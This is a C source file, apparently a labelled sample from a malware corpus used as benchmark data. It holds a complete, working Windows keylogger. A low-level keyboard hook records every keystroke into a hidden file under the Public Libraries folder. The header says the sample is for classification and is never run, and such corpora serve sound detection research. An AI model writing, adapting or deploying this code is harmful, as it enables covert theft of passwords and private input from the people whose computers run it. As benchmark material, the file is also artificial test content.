// maljan-corpus: a low-level keyboard hook that appends every key to a hidden log file.
// behaviour: keylogging
// imports: user32.dll!SetWindowsHookExA user32.dll!CallNextHookEx user32.dll!GetMessageA user32.dll!GetKeyState kernel32.dll!CreateFileA kernel32.dll!WriteFile
// link: -luser32
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>

static HANDLE g_log;

static LRESULT CALLBACK on_key(int code, WPARAM w, LPARAM l) {
    if (code == HC_ACTION && (w == WM_KEYDOWN || w == WM_SYSKEYDOWN)) {
        KBDLLHOOKSTRUCT *k = (KBDLLHOOKSTRUCT *)l;
        char c = (char)k->vkCode;
        if (GetKeyState(VK_SHIFT) >= 0 && c >= 'A' && c <= 'Z') c = (char)(c + 32);
        DWORD written;
        WriteFile(g_log, &c, 1, &written, NULL);
    }
    return CallNextHookEx(NULL, code, w, l);
}

int WINAPI WinMain(HINSTANCE inst, HINSTANCE prev, LPSTR cmd, int show) {
    (void)prev; (void)cmd; (void)show;
    g_log = CreateFileA("C:\\Users\\Public\\Libraries\\klog.dat", FILE_APPEND_DATA, FILE_SHARE_READ,
                        NULL, OPEN_ALWAYS, FILE_ATTRIBUTE_HIDDEN, NULL);
    HHOOK hook = SetWindowsHookExA(WH_KEYBOARD_LL, on_key, inst, 0);
    if (!hook) return 1;
    MSG msg;
    while (GetMessageA(&msg, NULL, 0, 0) > 0) {
        TranslateMessage(&msg);
        DispatchMessageA(&msg);
    }
    UnhookWindowsHookEx(hook);
    return 0;
}
